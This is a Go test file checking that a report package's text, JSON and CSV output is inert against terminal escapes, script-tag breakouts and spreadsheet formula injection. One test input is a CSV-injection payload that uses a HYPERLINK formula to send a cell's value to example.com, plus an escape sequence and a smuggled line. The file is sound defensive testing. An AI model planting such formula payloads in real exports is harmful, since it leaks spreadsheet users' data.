package report

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode"
)

// inert: nothing in the file drives a terminal, turns the direction of writing, or breaks a line that is not ours.
func inert(t *testing.T, report []byte) {
	t.Helper()
	for i, c := range string(report) {
		if !unicode.IsPrint(c) && c != '\n' && c != '\t' {
			t.Fatalf("%q at byte %d, behind %q", c, i, report[max(i-40, 0):i])
		}
	}
	if strings.Contains("\n"+string(report), "\nPASS  all") {
		t.Error("a line of somebody else's")
	}
}

func TestTextIsInert(t *testing.T) { inert(t, render(t, "text", hostileRun(t))) }

func TestJSONIsInert(t *testing.T) {
	r := hostileRun(t)
	report := render(t, "json", r)
	inert(t, report)
	for _, bad := range []string{"<script", "</script", "<!--"} {
		if strings.Contains(string(report), bad) {
			t.Errorf("%q would end a script element that the JSON stands in", bad)
		}
	}
	var s Summary
	if err := json.Unmarshal(report, &s); err != nil {
		t.Fatal(err)
	}
	same := func(what, got, want string) {
		t.Helper()
		if want = strings.ToValidUTF8(want, "\ufffd"); got != want {
			t.Errorf("%s does not come back:\n%q\n%q", what, got, want)
		}
	}
	same("name", s.Name, r.Plan.Name)
	same("group", s.Groups[1].Name, r.Plan.Groups[1].Name)
	same("fault", s.Faults[2].Fault, r.Plan.Faults[2].Name)
	same("warning", s.Warnings[1].Text, r.Warnings[1].Text)
	same("expectation", s.Outcomes[0].Text, r.Outcomes[0].Text)
	same("command", s.Command, r.Command)
}

func TestCSVIsInert(t *testing.T) {
	r := hostileRun(t)
	r.Occurrences[0].Name = "=HYPERLINK(\"http://example.com?\"&A1)\x1b[31m\r\n=1+1"
	report := render(t, "csv", r)
	inert(t, []byte(strings.ReplaceAll(string(report), "\r\n", "\n")))
	rows, err := csv.NewReader(strings.NewReader(string(report))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(r.Series.Attempts) {
		t.Errorf("%d records for %d seconds", len(rows)-1, len(r.Series.Attempts))
	}
	named := 0
	for _, row := range rows[1:] {
		for i, cell := range row {
			if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r") {
				t.Errorf("a formula in column %s: %q", rows[0][i], cell)
			}
		}
		if strings.HasPrefix(row[len(row)-1], "'=HYPERLINK") {
			named++
		}
	}
	if named == 0 {
		t.Error("the fault's name is nowhere")
	}
}

func TestNoFormula(t *testing.T) {
	for in, want := range map[string]string{"": "", "kill": "kill", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "＝1": "'＝1", "a=1": "a=1"} {
		if got := noFormula(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func TestWord(t *testing.T) {
	for in, want := range map[string]string{
		"kill#2": "kill#2", "": "_", "a b\n": "a_b_", "Tag=x,y/z": "Tag_x_y_z", strings.Repeat("x", 100): strings.Repeat("x", 80), "é\xff": "__",
	} {
		if got := word(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}
